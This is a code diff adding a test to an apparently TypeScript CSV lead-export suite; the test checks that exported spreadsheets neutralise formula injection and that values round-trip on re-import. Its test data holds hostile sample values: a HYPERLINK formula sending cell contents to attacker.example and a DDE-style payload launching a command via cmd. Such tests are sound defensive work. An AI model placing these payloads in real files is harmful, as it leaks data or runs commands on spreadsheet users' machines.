@@ -55,6 +55,24 @@ forEachDatabase("exporting", (open) => {
     );
   });
 
+  test("writes no formula that a spreadsheet would run, and all comes back as it was", async () => {
+    const written = {
+      first_name: '=HYPERLINK("http://attacker.example/?"&A1,"me")',
+      last_name: "@SUM(1+1)*cmd|' /C calc'!A0",
+      company: "'=already text",
+      job_title: "-2+3+cmd",
+      phone: "+351 21 (99)",
+      locale: "-5",
+    };
+    await house.arrive("=d@x.example", created(written));
+    const csv = await leads("csv");
+    expect(csv).not.toMatch(/(^|,|\n)"?[=@]/);
+    expect(csv).toContain("+351 21 (99)");
+    const other = await openHouse(await open(), programme);
+    await bring(other.spine, await fileOf(csv));
+    expect(await attributesOf(other.spine, "=d@x.example")).toMatchObject(written);
+  });
+
   test("writes only those for whom a condition holds, and only the attributes that they have", async () => {
     const where: Condition = { any: [{ attribute: "company", matches: "acme*" }, { did: "page.viewed" }] };
     expect(await leads("csv", house, where)).toBe(
